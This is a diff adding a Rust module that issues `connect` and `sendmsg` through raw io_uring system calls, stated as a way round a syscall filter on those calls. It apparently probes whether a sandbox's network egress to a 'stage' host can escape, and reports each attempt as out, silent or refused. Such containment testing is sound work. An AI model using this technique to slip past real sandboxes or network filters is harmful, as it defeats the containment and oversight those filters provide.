@@ -1,0 +1,112 @@
+//! io_uring by its bare system calls: the way round a filter on `connect` and `sendmsg`.
+
+use std::ptr;
+
+use crate::sys::{Fd, as_bytes, check, in4, receive, socket};
+use crate::{Attempt, BANNER, Stage, Verdict};
+
+const OP_SENDMSG: u8 = 9;
+const OP_CONNECT: u8 = 16;
+const ENTER_GETEVENTS: u32 = 1;
+const OFFSET_SQES: i64 = 0x1000_0000;
+const SQE_SIZE: usize = 64;
+/// More than one page of rings is never needed for four entries.
+const RING_SIZE: usize = 4096;
+
+/// `struct io_uring_params`: 10 words, then the offsets of both rings.
+#[repr(C)]
+#[derive(Default)]
+struct Params {
+    head: [u32; 10],
+    sq: [u32; 10],
+    cq: [u32; 10],
+}
+
+pub(crate) fn connect(stage: &Stage) -> Attempt {
+    let fd = socket(libc::AF_INET, libc::SOCK_STREAM, 0)?;
+    let address = in4(stage.v4()?, 443);
+    let (pointer, length) = as_bytes(&address);
+    let result = submit(OP_CONNECT, fd.0, pointer as u64, 0, u64::from(length))?;
+    outcome("connect", result)?;
+    let reply = receive(fd.0, 700);
+    if String::from_utf8_lossy(&reply).contains(BANNER) {
+        return Ok(Verdict::Out("heard the attacker".to_owned()));
+    }
+    Ok(Verdict::Silent(format!("connected, heard {} bytes", reply.len())))
+}
+
+pub(crate) fn sendmsg(stage: &Stage) -> Attempt {
+    let fd = socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
+    let mut address = in4(stage.v4()?, 4444);
+    let mut data = *b"by ring";
+    let mut iov = libc::iovec { iov_base: data.as_mut_ptr().cast(), iov_len: data.len() };
+    // SAFETY: all-zero is a valid message header.
+    let mut message: libc::msghdr = unsafe { std::mem::zeroed() };
+    message.msg_name = (&raw mut address).cast();
+    message.msg_namelen = size_of_val(&address) as u32;
+    message.msg_iov = &raw mut iov;
+    message.msg_iovlen = 1;
+    let result = submit(OP_SENDMSG, fd.0, (&raw const message) as u64, 1, 0)?;
+    outcome("sendmsg", result)?;
+    match receive(fd.0, 250).len() {
+        0 => Ok(Verdict::Silent("the ring took it".to_owned())),
+        _ => Ok(Verdict::Out("heard the attacker".to_owned())),
+    }
+}
+
+fn outcome(what: &str, result: i32) -> Result<(), Verdict> {
+    if result < 0 {
+        return Err(Verdict::Refused(format!("{what}: {}", std::io::Error::from_raw_os_error(-result))));
+    }
+    Ok(())
+}
+
+/// One entry in, one completion out.
+fn submit(op: u8, fd: i32, address: u64, length: u32, offset: u64) -> Result<i32, Verdict> {
+    let mut params = Params::default();
+    // SAFETY: the structure has the kernel's layout and outlives the call.
+    let ring = unsafe { libc::syscall(libc::SYS_io_uring_setup, 4, &raw mut params) };
+    let ring = Fd(check("io_uring_setup", ring)? as i32);
+    let rings = map(&ring, RING_SIZE, 0)?;
+    let entries = map(&ring, 4 * SQE_SIZE, OFFSET_SQES)?;
+    let completions = map(&ring, RING_SIZE, 0x800_0000)?;
+    let word = |base: *mut u8, offset: u32| base.wrapping_add(offset as usize).cast::<u32>();
+    // SAFETY: the kernel said where in its mappings these words are; entry 0 is ours until submitted.
+    unsafe {
+        ptr::write_bytes(entries, 0, SQE_SIZE);
+        entries.write(op);
+        entries.add(4).cast::<i32>().write(fd);
+        entries.add(8).cast::<u64>().write(offset);
+        entries.add(16).cast::<u64>().write(address);
+        entries.add(24).cast::<u32>().write(length);
+        word(rings, params.sq[6]).write(0);
+        word(rings, params.sq[1]).write_volatile(1);
+    }
+    // SAFETY: no pointers but the null set.
+    let entered = unsafe {
+        libc::syscall(
+            libc::SYS_io_uring_enter,
+            ring.0,
+            1,
+            1,
+            ENTER_GETEVENTS,
+            ptr::null::<libc::sigset_t>(),
+            8,
+        )
+    };
+    check("io_uring_enter", entered)?;
+    // SAFETY: one completion was waited for; its result is the second word behind the 64-bit user data.
+    Ok(unsafe { completions.add(params.cq[5] as usize + 8).cast::<i32>().read_volatile() })
+}
+
+fn map(ring: &Fd, size: usize, offset: i64) -> Result<*mut u8, Verdict> {
+    let flags = libc::MAP_SHARED | libc::MAP_POPULATE;
+    // SAFETY: a new mapping at an address of the kernel's choice; it lives as long as the process.
+    let at = unsafe {
+        libc::mmap(ptr::null_mut(), size, libc::PROT_READ | libc::PROT_WRITE, flags, ring.0, offset)
+    };
+    if at == libc::MAP_FAILED {
+        check("mmap of the ring", -1)?;
+    }
+    Ok(at.cast())
+}
